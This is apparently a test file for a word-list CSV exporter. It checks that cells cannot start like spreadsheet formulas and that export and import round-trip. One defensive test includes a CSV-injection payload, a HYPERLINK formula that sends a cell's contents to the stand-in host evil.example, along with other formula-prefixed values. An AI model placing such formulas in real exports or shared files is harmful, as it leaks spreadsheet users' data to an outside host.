/**
 * CSV export of word lists: no cell may start like a spreadsheet formula
 * (OWASP "CSV injection"), and export → import gives back the same terms.
 */
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Term } from '../../src/engine';
import { formatWordListCsv, parseWordListCsv } from '../../src/wordlists';

const chars = fc.constantFrom(...'ab =+-@\t\r\n"\',;|'.split(''));
const text = fc
  .array(chars, { minLength: 1, maxLength: 10 })
  .map((a) => a.join(''))
  .filter((s) => s.trim() !== '' && s === s.trim());
// Inside the alternatives cell, ; and | separate alternatives.
const alternative = text.filter((s) => !/[;|]/.test(s));
const term: fc.Arbitrary<Term> = fc
  .record({
    term: text,
    alternatives: fc.array(alternative, { maxLength: 3 }),
    note: fc.option(text, { nil: undefined }),
    severity: fc.option(fc.constantFrom('error' as const, 'warning' as const, 'suggestion' as const), { nil: undefined }),
  })
  .map((t) => {
    const out: Term = { term: t.term, alternatives: t.alternatives };
    if (t.note) out.note = t.note;
    if (t.severity) out.severity = t.severity;
    return out;
  });
const terms = fc.uniqueArray(term, { minLength: 1, maxLength: 5, selector: (t) => t.term.toLowerCase().replace(/\s+/g, ' ') });

describe('word list CSV export', () => {
  it('starts no cell with = + - @ tab or carriage return', () => {
    fc.assert(
      fc.property(terms, (list) => {
        const rows = Papa.parse<string[]>(formatWordListCsv(list), { skipEmptyLines: true }).data;
        for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { numRuns: 500 },
    );
  });

  it('reads back to the same terms', () => {
    fc.assert(
      fc.property(terms, (list) => {
        expect(parseWordListCsv(formatWordListCsv(list)).terms).toEqual(list);
      }),
      { numRuns: 1000 },
    );
  });

  it('guards a hostile shared list as text', () => {
    const list: Term[] = [
      { term: '=HYPERLINK("http://evil.example/?"&A1,"Click")', alternatives: ['+1+1', '@SUM(A1)'], note: '-2+3' },
      { term: "'=already quoted", alternatives: [] },
    ];
    const csv = formatWordListCsv(list);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(csv).toContain(`"'+1+1; @SUM(A1)"`);
    expect(csv).toContain(`"'-2+3"`);
    expect(csv).toContain(`"''=already quoted"`);
    expect(parseWordListCsv(csv).terms).toEqual(list);
  });
});
